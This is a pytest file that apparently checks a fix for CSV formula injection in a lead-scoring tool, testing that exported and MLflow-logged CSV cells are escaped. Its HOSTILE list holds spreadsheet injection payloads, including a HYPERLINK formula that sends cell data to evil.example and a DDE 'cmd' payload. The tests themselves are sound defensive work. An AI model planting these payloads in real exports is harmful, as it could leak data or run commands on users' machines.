"""Issue 13: cells a spreadsheet would run as formulas are escaped in every CSV the tool
writes (``score apply --out``, the tables logged to MLflow)."""

from __future__ import annotations

import numpy as np
import pandas as pd

from nurturelab import tracking
from nurturelab.cli import main
from nurturelab.simulation import World, simulate

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def test_write_csv_escapes_text_cells_index_and_names_not_numbers(tmp_path):
    from nurturelab._csv import write_csv

    frame = pd.DataFrame({"who": HOSTILE + ["ann", None], "n": [-1.5, 2, 3, 4, 5, 6, 7],
                          "=col": pd.Categorical(["a"] * 6 + ["=b"])},
                         index=pd.Index([f"L{i}" for i in range(6)] + ["=idx"], name="lead_id"))
    path = write_csv(frame, tmp_path / "out.csv")
    back = pd.read_csv(path, index_col="lead_id", keep_default_na=False)
    assert back["who"].tolist() == ["'" + h for h in HOSTILE] + ["ann", ""]
    assert back["n"].tolist() == [-1.5, 2, 3, 4, 5, 6, 7]  # numbers stay numbers
    assert list(back.columns) == ["who", "n", "'=col"] and back.index[-1] == "'=idx"
    assert back["'=col"].tolist()[-1] == "'=b"
    assert frame["who"].iloc[0] == HOSTILE[0]  # the caller's frame is untouched
    for line in path.read_text().splitlines():
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line.split(",")
                       if not cell.lstrip("-").replace(".", "").isdigit())


def test_score_apply_out_escapes_lead_attributes(tmp_path, monkeypatch):
    """score apply --out wrote =HYPERLINK(...) cells from lead attributes unescaped."""
    res = simulate(World(leads=200), 3)
    ids = {lid: HOSTILE[i % len(HOSTILE)] + f" {i}"
           for i, lid in enumerate(res.leads["lead_id"])}
    leads = res.leads.assign(lead_id=res.leads["lead_id"].replace(ids))
    events = res.events.assign(lead_id=res.events["lead_id"].replace(ids))
    leads.to_parquet(tmp_path / "leads.parquet")
    events.to_parquet(tmp_path / "events.parquet")

    class Half:
        def predict_proba(self, X):
            return np.full((len(X), 2), 0.5)

    monkeypatch.setattr(tracking, "load_model", lambda alias, **kw: Half())
    out = tmp_path / "scores.csv"
    assert main(["score", "apply", "--leads", str(tmp_path / "leads.parquet"), "--events",
                 str(tmp_path / "events.parquet"), "--out", str(out)]) == 0
    text = out.read_text()
    assert not [ln for ln in text.splitlines() if ln.startswith(("=", "+", "-", "@", "\t"))]
    scored = pd.read_csv(out, index_col="lead_id")
    hostile = [i for i in scored.index if i.startswith("'")]
    stripped = {v.strip() for v in ids.values()}  # ids are trimmed when read
    assert len(hostile) == len(scored) > 0 and all(i[1:] in stripped for i in hostile)


def test_tables_logged_to_mlflow_are_escaped(_private_mlflow_store):
    from nurturelab._csv import escape_formulas

    table = pd.DataFrame({"segment": ["=HYPERLINK(1)", "web"], "leads": [3, -4]})
    with tracking.run("t"):
        tracking.log_table(table, "segments")
    (path,) = _private_mlflow_store.rglob("segments.csv")
    assert pd.read_csv(path)["segment"].tolist() == ["'=HYPERLINK(1)", "web"]
    assert pd.read_csv(path)["leads"].tolist() == [3, -4]
    assert escape_formulas(table)["segment"].tolist() == ["'=HYPERLINK(1)", "web"]
